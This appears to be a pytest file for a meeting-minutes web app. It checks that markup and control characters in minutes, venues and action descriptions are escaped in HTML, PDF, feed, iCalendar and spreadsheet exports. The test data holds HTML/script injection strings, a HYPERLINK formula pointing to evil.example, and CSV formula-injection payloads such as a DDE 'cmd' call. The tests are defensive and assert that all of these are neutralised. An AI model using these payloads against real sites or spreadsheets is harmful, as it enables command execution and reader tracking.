"""User text is data in every output: markup and control characters typed into a minute, an agenda title or a
venue come out literally in HTML, the PDFs, RSS/Atom, iCalendar and the action exports — never as markup.
"""

import csv
import io
import re
import xml.etree.ElementTree as ET

import feedparser
import icalendar
import openpyxl
import pytest
from pypdf import PdfReader

from boards.models import MeetingPage, MinuteEntry
from tests import factories
from tests.boards import minutes_helpers as mh

pytestmark = pytest.mark.django_db

MARKUP = (
    '<b>bold</b> <font size="40" color="red">big</font> <img src="http://evil.example/pixel.png"/> '
    '<link href="http://evil.example/">click</link> <script>alert("x")</script>'
)
# Word's soft line break (vertical tab), a bell and an ANSI escape: pasted text carries them.
CONTROL = "Soft\x0bbreak bell\x07 ansi\x1b[31m"
# A literal backslash before "n" must stay two characters, never become a line break.
VENUE = "Hendon Town Hall; Room 1, The Burroughs\\Annexe \\new wing — line one\nline two"


@pytest.fixture
def hostile_minutes(partnered_board):
    """Published minutes whose public item title and resolution carry markup and control characters."""
    secretary = factories.UserFactory(username="minute-taker", secretariat=True)
    chair = mh.make_chair(partnered_board)
    meeting, public, _exempt = mh.held_meeting(partnered_board)
    public.title = f"Library {MARKUP}"
    public.save()
    meeting = MeetingPage.objects.get(pk=meeting.pk)
    meeting.venue = VENUE
    meeting.save_revision().publish()
    page = mh.write_minutes(meeting, user=secretary)
    draft = page.get_latest_revision_as_object()
    for entry in draft.entries.all():
        if entry.agenda_item.pk == public.pk:
            entry.resolution = f'Agreed {MARKUP} {CONTROL} =HYPERLINK("http://evil.example")'
    draft.save_revision(user=secretary)
    page = mh.approve(page, chair, secretary)
    assert MinuteEntry.objects.filter(page=page, resolution__contains="<font").exists()
    return page


def body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_html_pages_escape_markup(client, hostile_minutes):
    for url in (hostile_minutes.url, hostile_minutes.get_parent().url):
        html = client.get(url).content.decode()
        assert "&lt;b&gt;bold&lt;/b&gt;" in html, url
        assert '<img src="http://evil.example' not in html
        assert "<script>alert" not in html
        assert "<font" not in html


def test_pdf_shows_reportlab_markup_literally_and_fetches_nothing(client, hostile_minutes):
    response = client.get(hostile_minutes.pdf_url)
    assert response.status_code == 200
    reader = PdfReader(io.BytesIO(body(response)))
    text = "".join(page.extract_text() for page in reader.pages)
    flat = re.sub(r"\s+", " ", text)
    for literal in ("<b>bold</b>", "<font size=", "<img src=", "<link href=", "</link>"):
        assert literal in flat, literal
    for page in reader.pages:
        resources = page.get("/Resources") or {}
        xobjects = resources.get("/XObject") or {}
        assert not any(xobjects[name].get("/Subtype") == "/Image" for name in xobjects), "an <img> was fetched"
        for annotation in page.get("/Annots") or []:
            uri = str(annotation.get_object().get("/A", {}).get("/URI", ""))
            assert "evil.example" not in uri, "a <link> became a live link"


@pytest.mark.parametrize("path", ["feed/rss/", "feed/atom/"])
def test_feeds_stay_well_formed_xml_with_text_literal(client, hostile_minutes, path):
    board = hostile_minutes.get_parent().get_parent()
    for url in (f"{board.url}{path}", f"/feeds/minutes/{path.split('/')[1]}/"):
        response = client.get(url)
        assert response.status_code == 200, url
        raw = body(response)
        root = ET.fromstring(raw)  # well-formed XML 1.0, control characters and all
        tags = {el.tag.rsplit("}", 1)[-1] for el in root.iter()}
        assert not tags & {"script", "img", "font", "b"}, f"markup became elements in {url}"
        parsed = feedparser.parse(raw)
        assert not parsed.bozo, parsed.get("bozo_exception")
        text = " ".join(e.get("summary", "") for e in parsed.entries)
        assert "bold" in text and "Agreed" in text


def test_icalendar_escapes_and_folds(client, hostile_minutes):
    board = hostile_minutes.get_parent().get_parent()
    response = client.get(f"{board.url}meetings.ics")
    assert response.status_code == 200
    raw = body(response)
    lines = raw.split(b"\r\n")
    assert all(len(line) <= 75 for line in lines), "lines longer than 75 octets must be folded"
    assert b"\n" not in raw.replace(b"\r\n", b"")
    assert b"Room 1\\, The Burroughs\\\\Annexe \\\\new wing" in raw.replace(b"\r\n ", b"")
    assert b"\\;" in raw.replace(b"\r\n ", b"")
    (event,) = [c for c in icalendar.Calendar.from_ical(raw).walk("VEVENT") if "Hendon" in str(c.get("location"))]
    assert str(event["location"]) == VENUE


@pytest.fixture
def hostile_action(partnered_board, council):
    return factories.ActionFactory(
        board=partnered_board,
        owner=council,
        description='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        reference="PB/2011/06/1",
    )


@pytest.mark.parametrize("dangerous", ['=cmd|"/c calc"!A1', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"], ids=repr)
def test_csv_export_neutralises_formulas(client, partnered_board, council, secretariat_user, dangerous):
    factories.ActionFactory(board=partnered_board, owner=council, description=dangerous)
    client.force_login(secretariat_user)
    response = client.get("/admin/snippets/boards/action/?export=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert any(cell == "'" + dangerous for cell in cells), cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    assert "attachment" in response["Content-Disposition"]
    assert response["Cache-Control"] == "private, no-store"


def test_xlsx_export_holds_text_not_formulas(client, hostile_action, secretariat_user):
    client.force_login(secretariat_user)
    response = client.get("/admin/snippets/boards/action/?export=xlsx")
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(body(response)))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells), "a formula cell was written"
    values = [str(cell.value) for cell in cells if cell.value is not None]
    assert any(v.startswith("'=HYPERLINK") for v in values)


def test_export_is_limited_to_the_agencys_own_actions(client, partnered_board, council, nhs, council_user):
    mine = factories.ActionFactory(board=partnered_board, owner=council, description="Council's own action")
    theirs = factories.ActionFactory(board=partnered_board, owner=nhs, description="NHS private action")
    from boards import grants

    grants.sync_all()
    council_user.is_staff = True
    council_user.save()
    client.force_login(council_user)
    response = client.get("/admin/snippets/boards/action/?export=csv")
    assert response.status_code == 200
    text = body(response).decode("utf-8-sig")
    assert mine.description in text
    assert theirs.description not in text and theirs.reference not in text
